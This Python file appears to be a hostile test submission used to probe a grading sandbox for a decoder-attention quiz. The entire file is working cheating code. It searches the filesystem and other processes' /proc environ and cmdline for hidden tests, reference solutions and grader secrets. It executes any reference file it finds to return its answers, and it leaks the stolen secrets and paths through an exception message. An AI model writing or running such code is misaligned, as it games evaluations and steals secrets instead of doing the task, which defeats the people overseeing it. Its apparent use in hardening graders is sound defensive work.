"""Hostile: look everywhere for the hidden suites, the references and the grader's secrets; use and show them."""
import os
import time

import torch

PARAMS = {}


_FOUND = None


def _snoop():
    global _FOUND
    if _FOUND is None:
        _FOUND = _search()
    return _FOUND


def _search():
    found = {"refs": [], "tests": [], "secrets": [], "files": 0}
    deadline = time.monotonic() + 0.8
    for top in ("/", "/proc/1/root", "/proc/self/root"):
        for current, dirs, files in os.walk(top):
            if time.monotonic() > deadline:
                break
            dirs[:] = [d for d in dirs if not current.startswith(("/proc", "/sys", "/dev"))]
            for name in files:
                found["files"] += 1
                path = os.path.join(current, name)
                if name in ("course.yaml", "test_quiz.py") or "/hidden/" in path:
                    found["tests"].append(path)
                if name == "quiz.py" and not path.startswith("/submission"):
                    try:
                        if "BEGIN SOLUTION" in open(path, errors="replace").read():
                            found["refs"].append(path)
                    except OSError:
                        pass
    environments = [dict(os.environ)]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                environments.append(dict(line.split("=", 1) for line in
                                         open(f"/proc/{pid}/environ").read().split("\0") if "=" in line))
            except OSError:
                pass
    for env in environments:
        for name, value in env.items():
            if name == PARAMS.get("secret_name") or value.startswith("grader-secret-"):
                found["secrets"].append(value)
    found["leaks"] = _leaks(PARAMS.get("paths", ()))
    for module in ("solutions.quiz", "grader.suites.plugin"):
        try:
            __import__(module)
            found["refs"].append("import " + module)
        except Exception:
            pass
    return found


def _leaks(paths):
    """What the environment blocks and command lines the kernel shows (/proc/PID/environ, /proc/PID/cmdline: what a
    process was started with, whatever it changed since) say of the grader: its folders, its variables."""
    leaks = []
    for pid in ["self", *(name for name in os.listdir("/proc") if name.isdigit())]:
        for what in ("environ", "cmdline"):
            try:
                entries = open(f"/proc/{pid}/{what}", "rb").read().decode(errors="replace").split("\0")
            except OSError:
                continue
            for entry in entries[1:] if what == "cmdline" else entries:  # argv[0]: the interpreter, bound anyway
                if any(path in entry for path in paths) or entry.startswith(("GRADER_", "PYTHONPATH=")):
                    leaks.append(f"{pid}/{what}: {entry[:100]}")
    return leaks


def _use(found):
    for path in found["refs"]:
        if path.endswith(".py"):
            namespace = {}
            exec(open(path).read(), namespace)
            return namespace
    return None


def decoder_attention(s, H, return_weights=False):
    reference = _use(_snoop())
    if reference:
        return reference["decoder_attention"](s, H, return_weights)
    return _zeros(s, H, return_weights)


def quiz_answer():
    found = _snoop()
    reference = _use(found)
    if reference:
        return reference["quiz_answer"]()
    raise RuntimeError(f"SNOOPED secrets={found['secrets'][:2]} refs={found['refs'][:2]} tests={found['tests'][:3]} "
                       f"leaks={found['leaks'][:3]} files={found['files']}")


def _zeros(s, H, return_weights=False):
    """What tests/grading/hostile/zeros returns: a trick must not score more than that."""
    batch = torch.broadcast_shapes(s.shape[:-1], H.shape[:-2])
    v = torch.zeros(batch + s.shape[-1:], dtype=H.dtype, device=H.device)
    return (v, torch.zeros(batch + H.shape[-2:-1], dtype=H.dtype, device=H.device)) if return_weights else v
